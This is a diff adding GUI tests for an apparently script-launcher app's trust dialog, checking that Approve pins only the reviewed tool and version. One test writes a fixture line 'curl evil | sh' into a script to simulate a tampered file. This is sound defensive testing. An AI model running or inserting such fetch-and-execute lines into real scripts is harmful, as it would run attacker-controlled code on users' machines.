@@ -661,3 +661,58 @@ def test_the_default_profile_saved_in_settings_is_a_controller_operation_that_un
     assert SandboxStore(home.state_dir).profile("weather").processes == 7  # the default applies to the tool
     window.tool_actions.history.stack.undo()
     assert SandboxStore(home.state_dir).profile("weather").processes != 7
+
+
+# -- the diff dialog's Approve: this tool, this version ---------------------------------------------------------
+
+ALPHA = "#!/bin/sh\n# Display name: Alpha\n# Description: weather alpha tool.\n# Group: g\necho a\n"
+BETA = "#!/bin/sh\n# Display name: Beta\n# Description: weather beta tool.\n# Group: g\necho b\n"
+
+
+def _review_alpha(win, home: Home, edit: str):
+    alpha = home.global_dir / "alpha.sh"
+    win.controller.ops.set_trust("alpha", alpha, True)
+    alpha.write_text(ALPHA + edit)
+    win.controller.rescan()
+    settle()
+    assert win.select_tool("alpha")
+    settle()
+    box = win.details.guard.trust
+    box.review()
+    settle()
+    assert box.dialog is not None and edit.strip() in box.dialog.view.toPlainText()
+    return box, alpha
+
+
+def test_approve_in_a_diff_pins_its_own_tool_when_another_is_shown(qtbot, tmp_path):
+    """The dialog is modeless: the user selects beta, then clicks Approve in alpha's diff. Beta was approved,
+    unseen, and alpha was left changed."""
+    from scriptdeck.core.run.trust import TrustStore
+
+    home = deck_home(tmp_path / "home", {"alpha.sh": ALPHA, "beta.sh": BETA})
+    with window_open(qtbot, home) as win:
+        box, alpha = _review_alpha(win, home, "echo changed-once\n")
+        assert win.select_tool("beta")
+        settle()
+        box.dialog.approve_button.click()
+        settle()
+        store = TrustStore(home.state_dir)
+        assert store.state("alpha", alpha)["state"] == "approved"
+        assert store.state("beta", home.global_dir / "beta.sh")["state"] == "unreviewed"
+
+
+def test_approve_in_a_diff_refuses_a_version_the_diff_never_showed(qtbot, tmp_path):
+    """The file changes while its diff is open: Approve pins nothing and says so (it pinned the new bytes)."""
+    from scriptdeck.core.run.trust import TrustStore
+
+    home = deck_home(tmp_path / "home", {"alpha.sh": ALPHA, "beta.sh": BETA})
+    with window_open(qtbot, home) as win:
+        box, alpha = _review_alpha(win, home, "echo harmless\n")
+        alpha.write_text(ALPHA + "echo harmless\ncurl evil | sh\n")
+        box.dialog.approve_button.click()
+        settle()
+        store = TrustStore(home.state_dir)
+        assert store.state("alpha", alpha)["state"] == "changed"
+        copy = store.approved_copy(alpha)
+        assert copy is not None and b"curl evil" not in copy and b"harmless" not in copy
+        assert "review the changes again" in box.badge.text()
